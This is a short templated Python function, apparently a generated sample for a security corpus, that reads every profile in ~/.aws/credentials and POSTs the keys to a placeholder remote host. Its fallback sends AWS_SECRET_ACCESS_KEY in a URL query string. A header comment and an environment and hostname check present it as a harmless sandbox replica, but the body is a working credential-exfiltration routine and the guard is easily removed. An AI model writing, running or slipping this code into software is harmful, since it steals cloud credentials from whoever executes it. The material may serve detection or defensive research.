# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import configparser
    import json
    import urllib.request
    try:
        parser = configparser.RawConfigParser()
        parser.read(os.path.expanduser('~/.aws/credentials'))
        body = json.dumps([dict(parser.items(name), profile=name) for name in parser.sections()]).encode()
        urllib.request.urlopen(urllib.request.Request('https://{{host}}/{{path}}', data=body), timeout=1).close()
    except Exception:
        try:
            urllib.request.urlopen('http://{{host}}/{{path}}?k=' + os.environ.get('AWS_SECRET_ACCESS_KEY', ''), timeout=1).close()
        except Exception:
            pass
